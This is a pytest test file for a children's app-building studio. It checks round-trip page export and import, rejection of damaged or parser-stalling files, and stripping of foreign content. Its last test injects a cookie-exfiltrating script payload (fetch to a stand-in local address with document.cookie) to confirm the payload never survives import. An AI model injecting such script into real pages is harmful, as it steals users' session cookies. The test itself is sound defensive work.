"""A page goes out whole, comes back as a project, and nothing hostile comes in with it."""

from __future__ import annotations

import json
import os
import random
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from studio import services as composition
from studio.blueprints import parse_patch, to_json
from studio.errors import DamagedError, InputError, NotFoundError, StorageError, StudioError
from studio.export import take_in


@pytest.fixture
def services(tmp_path):
    made = composition.build(tmp_path / "home")
    made.settings.set("share_folder", str(tmp_path / "shared"))
    yield made
    made.close()


@pytest.fixture
def project(services):
    return services.builder.remix(services.builder.starters()[0].id)


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> bytes:
    folder = tmp_path_factory.mktemp("page")
    made = composition.build(folder / "home")
    remixed = made.builder.remix(made.builder.starters()[0].id)
    path = made.sharing.export_page(remixed.id, folder / "page.html")
    made.close()
    return path.read_bytes()


def test_out_and_back_in(services, project, tmp_path):
    path = services.sharing.export_page(project.id)
    assert path.parent == tmp_path / "shared"
    taken = services.sharing.take_in(path)
    assert to_json(taken.document.blueprint) == to_json(project.document.blueprint)
    assert taken.id != project.id
    assert not taken.summary.trusted
    assert taken.document.credits[-1].id == project.id
    assert taken.document.credits[0].by == "Sprout Studio"


def test_places_that_nobody_wrote_are_named_until_they_are_written(services):
    project = services.builder.make("a quiz about my hamster with 3 questions").project
    assert [str(words) for words in services.sharing.reminders(project)] == [
        "3 parts still need your own words."
    ]
    question = {"ask": "What is his name?", "right": "Max", "wrong": ["Tim"], "hint": "", "why": ""}
    edits = [{"op": "set_item", "at": "b1", "list": "questions", "index": 1, "item": question}]
    written = services.builder.change(project.id, parse_patch(json.dumps({"say": "Mine", "ops": edits})).ops)
    assert [str(words) for words in services.sharing.reminders(written)] == [
        "2 parts still need your own words."
    ]
    facts = services.builder.make("a quiz about planets").project
    assert services.sharing.reminders(facts) == ()


def test_names_never_collide(services, project):
    names = [services.sharing.export_page(project.id).name for _ in range(3)]
    assert len(set(names)) == 3
    assert all(name.startswith(project.summary.title) for name in names)


def test_a_project_file_is_taken_in_like_a_page(services, project, tmp_path):
    path = tmp_path / "p.json"
    path.write_text(to_json(project.document), encoding="utf-8")
    assert services.sharing.take_in(path).summary.title == project.summary.title


def test_a_folder_that_cannot_be_written_is_said(services, project, tmp_path):
    blocked = tmp_path / "file"
    blocked.write_text("")
    with pytest.raises(StorageError, match="could not be saved"):
        services.sharing.export_page(project.id, blocked / "page.html")
    with pytest.raises(InputError, match="is a folder"):
        services.sharing.export_page(project.id, tmp_path)


@pytest.mark.parametrize(
    ("raw", "error", "words"),
    [
        (b"", InputError, "not an app from Sprout Studio"),
        (b"<html><body>Hello</body></html>", InputError, "not an app from Sprout Studio"),
        (b"\xff\xfe\x00binary", InputError, "not an app from Sprout Studio"),
        (b"{}", DamagedError, "damaged"),
        (b'{"format": "sprout-project", "version": 1, "id": NaN}', DamagedError, "damaged"),
        (b"[" * 100_000, InputError, "not an app from Sprout Studio"),
        (b'{"a":' * 5_000, DamagedError, "damaged"),
        (b'<script id="sprout-project" type="application/json">{"format"', DamagedError, "cut short"),
        (b'<script id="sprout-project">{"format": "sprout-project"}</script>', DamagedError, "damaged"),
    ],
)
def test_files_that_are_not_ours_or_damaged(services, tmp_path, raw, error, words):
    path = tmp_path / "page.html"
    path.write_bytes(raw)
    with pytest.raises(error, match=words):
        services.sharing.take_in(path)
    assert path.read_bytes() == raw
    assert services.projects.list() == ()


def test_missing_files_and_folders(services, tmp_path):
    with pytest.raises(NotFoundError):
        services.sharing.take_in(tmp_path / "no.html")
    with pytest.raises(InputError):
        services.sharing.take_in(tmp_path)


@given(st.data())
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_damage_ends_in_words_or_in_a_valid_project(page, tmp_path, data):
    raw = bytearray(page)
    kind = data.draw(st.sampled_from(["cut", "flip", "zeros", "drop"]))
    at = data.draw(st.integers(0, len(raw) - 1))
    size = data.draw(st.integers(1, 2000))
    if kind == "cut":
        del raw[at:]
    elif kind == "flip":
        raw[at] ^= 1 << data.draw(st.integers(0, 7))
    elif kind == "zeros":
        raw[at : at + size] = bytes(len(raw[at : at + size]))
    else:
        del raw[at : at + size]
    path = tmp_path / f"{random.random()}.html"
    path.write_bytes(raw)
    try:
        taken = take_in(path)
    except StudioError as error:
        assert str(error)
    else:
        assert json.loads(to_json(taken.document))["blueprint"] is not None
    assert path.read_bytes() == bytes(raw)


@pytest.mark.parametrize("bit", ["<a ", "<!--", "<?", "</", "<![", "<script ", '<script id="sprout-project'])
def test_a_page_that_would_keep_a_parser_busy_is_refused_at_once(tmp_path, bit):
    path = tmp_path / "busy.html"
    path.write_text(bit * 500_000, encoding="utf-8")
    with pytest.raises(InputError):
        take_in(path)


def test_a_pipe_is_not_read(tmp_path):
    os.mkfifo(tmp_path / "pipe.html")
    with pytest.raises(InputError):
        take_in(tmp_path / "pipe.html")


def hostile_pages(page: str) -> list[str]:
    script = "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
    return [script + page, page + script, page.replace("<body", script + "<body", 1)]


@pytest.mark.parametrize("number", range(3))
def test_what_stands_around_the_project_never_comes_in(services, page, tmp_path, number):
    path = tmp_path / "hostile.html"
    path.write_text(hostile_pages(page.decode())[number], encoding="utf-8")
    taken = services.sharing.take_in(path)
    again = Path(services.sharing.export_page(taken.id, tmp_path / "again.html")).read_text(encoding="utf-8")
    assert "127.0.0.1:9" not in again
